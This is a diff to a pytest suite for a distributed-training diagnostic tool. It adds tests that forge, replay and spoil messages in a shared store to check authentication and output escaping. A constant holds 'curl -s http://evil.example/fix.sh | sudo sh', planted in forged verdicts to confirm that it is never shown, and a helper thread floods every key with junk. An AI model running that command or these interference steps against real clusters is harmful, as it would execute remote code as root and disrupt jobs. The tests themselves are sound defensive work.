@@ -13,6 +13,7 @@ import time
 
 import pytest
 
+from ddpdoctor.cluster.mailbox import sealed_name
 from tests.cluster_procs import (ESC, assert_clean, budget_s, cluster, cluster_results,  # noqa: F401 - fixture
                                  identity, sealed)
 
@@ -101,6 +102,8 @@ NO_TOKEN_CASES = [
     ("ident-rank-99", "ident/1/1", "master", frame("ident/1/1", lambda: identity(99, 1), token=None), 0),
     ("ident-hostname-10000", "ident/1/1", "master",
      frame("ident/1/1", lambda: identity(1, 1, host="h" * 10_000), token=None), 0),
+    ("ident-hostname-100", "ident/1/1", "master",  # idna refuses a label over 63 characters (UnicodeError)
+     frame("ident/1/1", lambda: identity(1, 1, host="h" * 100), token=None), 0),
     ("ident-signed-with-a-token", "ident/1/1", "master", frame("ident/1/1", lambda: identity(1, 1), token="other"), 0),
     ("roster-from-rank-1", "roster", "worker",
      frame("roster", {"status": "aborted", "message": PWNED}, sender=(1, 1), token=None), 0),
@@ -154,12 +157,15 @@ def test_insider_duplicate_rank_is_named_and_fails(cluster):
     master = c.start_master(token=TOKEN, timeout=TIMEOUT)
     h = c.hostile()
     run = h.run_nonce(TOKEN)
-    assert h.add("claim/1") == 1
-    h.append("ident/1/1", sealed(identity(1, 1, host="impostor", launch={"nnodes": 3, "endpoint": c.master}),
-                                 key="ident/1/1", sender=(1, 1), run=run, token=TOKEN))
+    # an insider knows the token, so it can compute the run's sealed names: it takes claim slot 1 of rank 1
+    assert h.store.compare_set(sealed_name(TOKEN, run, "claim/1/1"), "", "ab" * 16) == b"ab" * 16
+    h.append(sealed_name(TOKEN, run, "ident/1/1"),
+             sealed(identity(1, 1, host="impostor", launch={"nnodes": 3, "endpoint": c.master}),
+                    key="ident/1/1", sender=(1, 1), run=run, token=TOKEN))
     real = c.start(1, token=TOKEN, timeout=TIMEOUT)
     deadline = time.monotonic() + 60
-    while h.add("claim/1", 0) < 2 and time.monotonic() < deadline:  # the real node has claimed rank 1 too
+    second = sealed_name(TOKEN, run, "claim/1/2")
+    while not h.store.check([second]) and time.monotonic() < deadline:  # the real node has claimed rank 1 too
         time.sleep(0.1)
     last = c.start(2, token=TOKEN, timeout=TIMEOUT)
     codes = c.finish(budget_s(TIMEOUT))
@@ -176,11 +182,13 @@ def test_insider_duplicate_rank_is_named_and_fails(cluster):
     assert real.doc()["verdict"] == "fail"
 
 
-def _record(h, keys: list[str]) -> dict[str, bytes]:
-    """What a run left in its store: each key read as soon as it appears (the verdict last)."""
+def _record(h, keys: list[str], run: str) -> dict[str, bytes]:
+    """What a run left in its store: each key read as soon as it appears (the verdict last). The run's keys
+    live under sealed names: a recorder with the token computes them (an outsider finds them with list_keys
+    once they exist)."""
     got = {}
     for key in keys:
-        got[key] = h.wait(key, 60)
+        got[key] = h.wait(key if key == "hello" else sealed_name(TOKEN, run, key), 60)
     return got
 
 
@@ -192,9 +200,10 @@ def test_messages_replayed_from_an_earlier_run_never_verify(cluster):
     first = cluster(2)
     first.start_master(token=TOKEN, timeout=TIMEOUT)
     h1 = first.hostile()
+    first_run = h1.run_nonce(TOKEN)
     first.start(1, token=TOKEN, timeout=TIMEOUT)
     keys = ["hello", "ident/1/1", "roster", "facts/1.1", "collective-go", "cfacts/1.1", "verdict"]
-    recorded = _record(h1, keys)
+    recorded = _record(h1, keys, first_run)
     assert first.finish(budget_s(TIMEOUT)) == {0: 0, 1: 0}, first.report()
     assert b'"run"' in recorded["verdict"]
 
@@ -216,10 +225,10 @@ def test_messages_replayed_from_an_earlier_run_never_verify(cluster):
         named = _named(doc, key)
         assert named and "another run" in named[0]["summary"], (key, cluster_results(doc))
 
-    # A writer that can also *replace* a key puts the old run's hello before the live one: the worker can
-    # only take the first hello that verifies, so it joins the old run. Nothing of the old run is accepted
-    # then either: its identity is refused by the live master as another run's, and both nodes end with
-    # exit 3 naming that (a denial of service, as deleting the key would be; never a forged verdict).
+    # A writer that can also *replace* a key puts the old run's hello before the live one. Both verify
+    # with the reused token; the worker takes the newest (the hello carries the master's time) and names
+    # the replayed one as another run's: the run goes on as the live master decides (it used to be a
+    # denial of service, both nodes exit 3).
     third = cluster(2)
     master = third.start_master(token=TOKEN, timeout=TIMEOUT)
     h3 = third.hostile()
@@ -229,22 +238,29 @@ def test_messages_replayed_from_an_earlier_run_never_verify(cluster):
     codes = third.finish(budget_s(TIMEOUT))
     for node in (master, worker):
         assert_clean(node)
-    assert codes == {0: 3, 1: 3}, third.report()
-    assert "another run" in master.stderr and "rank 1" in master.stderr, third.report()
-    assert "another run" in worker.stderr and "at roster" in worker.stderr, third.report()
+    assert codes == {0: 0, 1: 0}, third.report()
+    named = _named(worker.doc(), "hello")
+    assert named and "another run" in named[0]["summary"], cluster_results(worker.doc())
 
 
 @pytest.mark.timeout(150)
-def test_forged_roster_without_token_is_shown_escaped(cluster):
+def _own_home(tmp_path, rank: int) -> dict:
+    """A node whose home directory no other node sees (no shared filesystem: no common key file)."""
+    home = tmp_path / f"home{rank}"
+    home.mkdir(exist_ok=True)
+    return {"HOME": str(home)}
+
+
+def test_forged_roster_without_token_is_shown_escaped(cluster, tmp_path):
     """Without --token nothing can be authenticated: a forged 'aborted' roster from rank 0 is a valid
     message. Its text still reaches the terminal escaped, never as a live escape sequence."""
     c = cluster(2)
-    master = c.start_master(timeout=TIMEOUT)
-    h = c.hostile()
+    master = c.start_master(timeout=TIMEOUT, env=_own_home(tmp_path, 0))  # no shared home: no key file in
+    h = c.hostile()                                                        # common, the run is unauthenticated
     run = h.run_nonce(None)
     h.append("roster", sealed({"status": "aborted", "message": PWNED}, key="roster", sender=(0, 1), run=run,
                               token=None))
-    worker = c.start(1, timeout=TIMEOUT, json_out=False)
+    worker = c.start(1, timeout=TIMEOUT, json_out=False, env=_own_home(tmp_path, 1))
     codes = c.finish(budget_s(TIMEOUT))
     for node in (master, worker):
         assert_clean(node)
@@ -272,3 +288,226 @@ def test_stray_done_signals_do_not_end_the_master_before_the_nodes_read_the_verd
         assert_clean(node)
     assert codes == {0: 0, 1: 0, 2: 0}, c.report()
     assert all(w.doc()["verdict"] in ("pass", "warn") for w in workers)
+
+
+# ---------------------------------------------------------------- authentication by default (issue 25, item 1)
+
+SLOW_TIMEOUT = 25  # these start nodes after a hostile setup: room for a loaded machine
+CURL = "curl -s http://evil.example/fix.sh | sudo sh   # required before torchrun"
+
+
+def _forged_verdict(**over) -> dict:
+    body = {"verdict": "pass", "exit_code": 0, "scope": "cluster", "nodes": {}, "advice": [CURL],
+            "results": [{"check": "mesh", "level": "pass", "summary": "all good", "nodes": [], "fix": CURL}]}
+    body.update(over)
+    return body
+
+
+def _no_key_home(tmp_path) -> dict:
+    """A master that can write no key file anywhere (its home is not writable): the run is unauthenticated."""
+    return {"HOME": str(tmp_path / "no-such-home" / "x")}
+
+
+def _keys_left(*dirs) -> list:
+    return [p for d in dirs for p in d.rglob("*") if p.is_file() and ("key" in p.name or len(p.name) == 32)]
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(200)
+def test_a_run_without_token_is_authenticated_by_its_own_key_file(cluster, tmp_path):
+    """No flag: the nodes share a home directory, the master writes the run's key there, every node finds
+    it. A stranger's verdict (a PASS with a line to paste, malformed results) is named, never taken."""
+    home = tmp_path / "shared-home"
+    home.mkdir()
+    c = cluster(2)
+    master = c.start_master(timeout=SLOW_TIMEOUT, env={"HOME": str(home)})
+    h = c.hostile()
+    run = h.run_nonce(None)
+    for body in (_forged_verdict(results=["x"]), _forged_verdict(results=[{}]), _forged_verdict()):
+        h.append("verdict", sealed(body, key="verdict", sender=(0, 1), run=run, token=None))
+    worker = c.start(1, timeout=SLOW_TIMEOUT, json_out=False, env={"HOME": str(home)}, output=str(tmp_path / "w"))
+    codes = c.finish(budget_s(SLOW_TIMEOUT))
+    for node in (master, worker):
+        assert_clean(node)
+        assert "authenticated with this run's key file" in node.stderr, c.report()
+    assert codes == {0: 0, 1: 0}, c.report()
+    mdoc, wdoc = master.doc(), worker.doc()
+    for doc in (mdoc, wdoc):
+        assert doc["auth"]["authenticated"] is True and doc["auth"]["mode"] == "key", doc["auth"]
+    assert "curl" not in worker.stdout and "curl" not in json.dumps(wdoc["advice"])
+    assert len(_named(wdoc, "verdict")) == 3, cluster_results(wdoc)
+    assert not _keys_left(home), "the run's key file was left behind"
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(150)
+def test_an_unauthenticated_run_says_so_and_prints_no_command_it_did_not_build(cluster, tmp_path):
+    """No token and no shared key file: every node warns at start and in its document. A forged verdict
+    with malformed results is refused without a crash; a well-formed forged one is shown, but its fixes
+    are withheld and the lines to paste are the node's own (no injected `curl ... | sudo sh`)."""
+    c = cluster(2)
+    master = c.start_master(timeout=SLOW_TIMEOUT, env=_no_key_home(tmp_path))
+    h = c.hostile()
+    run = h.run_nonce(None)
+    for body in (_forged_verdict(results=["x"]), _forged_verdict(results=[{}]), _forged_verdict()):
+        h.append("verdict", sealed(body, key="verdict", sender=(0, 1), run=run, token=None))
+    worker = c.start(1, timeout=SLOW_TIMEOUT, json_out=False, env=_own_home(tmp_path, 1), output=str(tmp_path / "w"))
+    codes = c.finish(budget_s(SLOW_TIMEOUT))
+    for node in (master, worker):
+        assert_clean(node)
+        assert "NOT authenticated" in node.stderr and "DDPDOCTOR_TOKEN" in node.stderr, c.report()
+    assert codes[1] in (0, 1) and codes[0] in (0, 1), c.report()  # never exit 4
+    wdoc = worker.doc()
+    assert wdoc["auth"]["authenticated"] is False and "forge" in wdoc["auth"]["note"], wdoc["auth"]
+    assert master.doc()["auth"]["authenticated"] is False
+    assert "curl" not in worker.stdout and "curl" not in json.dumps(wdoc["advice"])
+    assert not any("curl" in (r.get("fix") or "") for r in wdoc["results"]), wdoc["results"]
+    assert len(_named(wdoc, "verdict")) >= 2, cluster_results(wdoc)  # the malformed ones, named
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(150)
+def test_a_node_without_the_key_joins_and_the_run_says_it_was_not_authenticated(cluster, tmp_path):
+    """The master has its key file; rank 1 has no shared home. It does not hang: it joins without the key,
+    both nodes say the run was not authenticated and name the node that had no key."""
+    c = cluster(2)
+    master = c.start_master(timeout=SLOW_TIMEOUT, env=_own_home(tmp_path, 0))
+    worker = c.start(1, timeout=SLOW_TIMEOUT, env=_own_home(tmp_path, 1))
+    codes = c.finish(budget_s(SLOW_TIMEOUT))
+    for node in (master, worker):
+        assert_clean(node)
+    assert codes == {0: 0, 1: 0}, c.report()
+    assert "authenticated with this run's key file" in master.stderr and "NOT authenticated" in worker.stderr
+    for doc in (master.doc(), worker.doc()):
+        assert doc["auth"]["authenticated"] is False and doc["auth"]["open_nodes"], doc["auth"]
+
+
+# ---------------------------------------------------------------- no outsider blocks a sealed run (item 2)
+
+
+class Lister:
+    """An outsider that lists the store's keys while the run goes on and spoils every protocol key it finds:
+    64 junk frames appended after the real message, a junk value over every heartbeat."""
+
+    def __init__(self, h):
+        self.h = h
+        self.stop = False
+        self.spoiled: set[str] = set()
+        self.thread = __import__("threading").Thread(target=self.work, daemon=True)
+        self.thread.start()
+
+    def work(self) -> None:
+        for _ in range(3000):
+            if self.stop or self.h.raw is None:
+                return
+            try:
+                keys = self.h.raw.list_keys()
+            except Exception:  # noqa: BLE001 - the master is gone: the run is over
+                return
+            for full in keys:
+                key = full.removeprefix("ddpdoctor/")
+                if key.startswith("pg") or key.startswith("claim/"):
+                    continue  # torch's own process-group keys: not the protocol's (see PROTOCOL.md)
+                try:
+                    if key.startswith("beat/"):
+                        self.h.store.set(key, b"x")
+                    elif key not in self.spoiled:
+                        self.spoiled.add(key)
+                        self.h.store.append(key, b"\n" + b"\n".join(b"junk %d" % i for i in range(64)) + b"\n")
+                except Exception:  # noqa: BLE001
+                    return
+            time.sleep(0.05)
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(180)
+@pytest.mark.parametrize("mode", ["token", "key"])
+def test_an_outsider_cannot_block_a_sealed_run(cluster, tmp_path, mode):
+    """The attacks of issue 25 against a sealed run: 16 junk claims on rank 1, 64 junk frames before the
+    verdict and the facts, a non-integer value on a heartbeat key, then, while the run goes on, junk after
+    every message it can find with list_keys and junk values over every heartbeat. The run passes as the
+    master decides, within its budget, naming the interference and blaming no node."""
+    home = tmp_path / "home"
+    home.mkdir()
+    token = TOKEN if mode == "token" else None
+    env = {"HOME": str(home)}
+    c = cluster(2)
+    master = c.start_master(token=token, timeout=SLOW_TIMEOUT, env=env)
+    h = c.hostile()
+    h.run_nonce(token)
+    for i in range(16):
+        h.add("claim/1")
+        h.store.compare_set(f"claim/1/{i + 1}", "", "junk")
+    for key in ("verdict", "facts/1.1", "ident/1/1", "roster"):
+        h.append_raw(key, b"\n" + b"\n".join(b'{"junk": %d}' % i for i in range(64)) + b"\n")
+    h.store.set("beat/1.1", b"x")
+    h.store.set("beat/0.0", b"x")
+    lister = Lister(h)
+    start = time.monotonic()
+    worker = c.start(1, token=token, timeout=SLOW_TIMEOUT, env=env)
+    codes = c.finish(budget_s(SLOW_TIMEOUT))
+    lister.stop = True
+    for node in (master, worker):
+        assert_clean(node)
+    assert codes == {0: 0, 1: 0}, c.report()
+    assert time.monotonic() - start < budget_s(SLOW_TIMEOUT)
+    mdoc, wdoc = master.doc(), worker.doc()
+    assert mdoc["auth"]["authenticated"] and wdoc["auth"]["authenticated"]
+    for doc in (mdoc, wdoc):
+        assert not [r for r in doc["results"] if r["level"] == "fail"], doc["results"]
+    assert _named(mdoc, "facts/1.1") and _named(wdoc, "verdict"), (cluster_results(mdoc), cluster_results(wdoc))
+    assert lister.spoiled, "the lister found no key to spoil"
+
+
+# ---------------------------------------------------------------- signals and host names (item 5)
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(150)
+def test_sigterm_to_the_master_leaves_no_file_in_the_shared_dir(cluster, tmp_path):
+    shared = tmp_path / "shared"
+    shared.mkdir()
+    home = tmp_path / "home"
+    home.mkdir()
+    env = {"HOME": str(home)}
+    c = cluster(2)
+    master = c.start_master("--shared-dir", str(shared), timeout=SLOW_TIMEOUT, env=env)
+    worker = c.start(1, "--shared-dir", str(shared), timeout=SLOW_TIMEOUT, env=env)
+    deadline = time.monotonic() + 60
+    while not list(shared.glob(".ddpdoctor-shared-*")) and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert list(shared.glob(".ddpdoctor-shared-*")), c.report()
+    master.signal(__import__("signal").SIGTERM)
+    assert master.finish(30) == 143, master.describe()
+    worker.finish(budget_s(SLOW_TIMEOUT))
+    assert_clean(master)
+    assert list(shared.iterdir()) == [] and not _keys_left(home), list(shared.iterdir())
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(240)
+def test_sigterm_during_the_torch_import_ends_cleanly(cluster):
+    """SIGTERM while a node is importing torch: held back until the import is done, then honoured (143),
+    never an abort (`terminate called ... error_already_set`, rc -6)."""
+    import signal
+
+    for delay in (0.4, 0.8, 1.2, 1.6, 2.2):
+        c = cluster(2)
+        node = c.start(1, timeout=SLOW_TIMEOUT)  # no master: it would wait; the signal comes first
+        time.sleep(delay)
+        node.signal(signal.SIGTERM)
+        rc = node.finish(60)
+        assert rc in (143, -signal.SIGTERM), (delay, node.describe())
+        assert "terminate called" not in node.stderr and "error_already_set" not in node.stderr, node.describe()
+
+
+@pytest.mark.timeout(60)
+@pytest.mark.parametrize("master", ["h" * 300 + ":29500", "a." + "b" * 100 + ":29500"])
+def test_a_host_name_the_resolver_refuses_is_one_line_and_exit_2(master):
+    import subprocess
+    import sys
+
+    proc = subprocess.run([sys.executable, "-m", "ddpdoctor", "preflight", "--master", master, "--nnodes", "2"],
+                          capture_output=True, text=True, timeout=50)
+    assert proc.returncode == 2, proc.stderr
+    assert "Traceback" not in proc.stderr and len(proc.stderr.strip().splitlines()) == 1, proc.stderr
